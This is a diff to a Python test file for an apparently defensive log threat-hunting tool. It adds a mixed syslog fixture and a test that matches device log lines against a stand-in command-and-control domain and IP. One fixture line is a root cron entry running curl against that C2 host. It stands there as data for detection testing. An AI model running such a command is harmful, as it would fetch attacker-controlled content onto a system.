@@ -8,6 +8,7 @@ domains, an IP that shares a prefix with the C2 address, a URL-only host) must n
 from __future__ import annotations
 
 import json
+import os
 from collections.abc import Callable
 from pathlib import Path
 
@@ -328,11 +329,11 @@ def test_docs_list_every_reader_and_synonym() -> None:
     assert not missing, f"docs/log-formats.md does not list {missing}"
 
 
-NEW_READERS = ("kv", "asa", "umbrella", "winfw", "route53", "azurefw", "pfsense", "csv", "jsonl")
+NEW_READERS = ("kv", "asa", "umbrella", "winfw", "route53", "azurefw", "pfsense", "syslog-mixed", "csv", "jsonl")
 
 
 def _seed_lines() -> list[str]:
-    return [ln for fn in CASES.values() for ln in fn()[0].splitlines() if ln]
+    return [ln for fn in (*CASES.values(), mixed_syslog) for ln in fn()[0].splitlines() if ln]
 
 
 @pytest.mark.parametrize("name", NEW_READERS)
@@ -382,7 +383,6 @@ def test_hostile_records_only_raise_record_error(name: str) -> None:
 
 def test_same_findings_through_spark(tmp_path: Path) -> None:
     """--engine spark reads the same vendor layouts with the same readers: identical findings."""
-    import os
     import shutil
 
     pytest.importorskip("pyspark", reason="pip install 'tracehound[spark]'")
@@ -402,3 +402,41 @@ def test_same_findings_through_spark(tmp_path: Path) -> None:
     remote = [json.loads(line) for _rep, lines in run_spark_hunt(pack, paths, HuntOptions(), opt) for line in lines]
     assert len(local) == sum(len(fn()[2]) for fn in CASES.values())
     assert sorted(json.dumps(d, sort_keys=True) for d in local) == sorted(json.dumps(d, sort_keys=True) for d in remote)
+
+
+def mixed_syslog() -> Case:
+    lines = [
+        "Mar 28 10:02:00 fw-a sshd[811]: Accepted publickey for admin from 10.9.0.1 port 50000 ssh2",
+        f"Mar 28 10:02:01 asa01 : %ASA-6-302013: Built outbound TCP connection 1 for outside:{C2_IP}/443"
+        f" ({C2_IP}/443) to inside:10.9.0.2/50001 (198.51.100.2/50001)",
+        'Mar 28 10:02:02 fgt01 date=2023-03-28 time=10:02:02 devname="FGT" type="utm" subtype="webfilter" '
+        f'srcip=10.9.0.3 dstip=93.184.216.34 dstport=443 hostname="www.{C2}" url="/a" action="passthrough"',
+        f"Mar 28 10:02:03 proxy01 CEF:0|Zscaler|NSSWeblog|5.0|Allowed|Allowed|3|src=10.9.0.4 dst={NEAR_IP} "
+        f"dhost={NEAR_DOMAIN} requestMethod=GET",
+        f"Mar 28 10:02:04 cron01 CRON[99]: (root) CMD (curl -s https://{C2}/x)",  # no device format: unparsed
+        f"Mar 28 10:02:05 proxy01 CEF:0|Zscaler|NSSWeblog|5.0|Allowed|Allowed|3|src=10.9.0.5 dst=93.184.216.34 "
+        f"dhost=api.{C2} requestMethod=GET",
+    ]
+    return "\n".join(lines) + "\n", "syslog-mixed", {
+        2: (C2_IP, "10.9.0.2", "10.9.0.2", "2023-03-28T10:02:01Z"),
+        3: (C2, "10.9.0.3", "10.9.0.3", "2023-03-28T10:02:02Z"),
+        6: (C2, "10.9.0.5", "10.9.0.5", "2023-03-28T10:02:05Z"),
+    }
+
+
+def test_mixed_syslog_collector_file(tmp_path: Path) -> None:
+    """Each device's lines through its own reader; the unrecognised line is counted, never silently dropped."""
+    text, fmt, expected = mixed_syslog()
+    f = tmp_path / "remote.log"
+    f.write_text(text, encoding="utf-8")
+    os.utime(f, (1680000000 + 86400, 1680000000 + 86400))  # the file's time gives syslog lines their year (2023)
+    docs, summary = hunt(make_pack(tmp_path), [str(f)], jobs=1)
+    assert summary.files[0].format == fmt
+    by_line = {d["tracehound"]["line"]: d for d in docs}
+    for line, (ind, src, host, ts) in expected.items():
+        d = by_line[line]
+        assert ind in {e["matched"]["indicator"] for e in d["threat"]["enrichments"]}
+        assert (d["source"]["ip"], d["tracehound"]["host"], d["@timestamp"]) == (src, host, ts)
+    assert 4 not in by_line  # near misses
+    # the cron line holds the C2 domain but no device format: reported from its raw text or counted, not lost
+    assert 5 in by_line or any("unparseable" in k for k in summary.files[0].skipped), summary.files[0].skipped
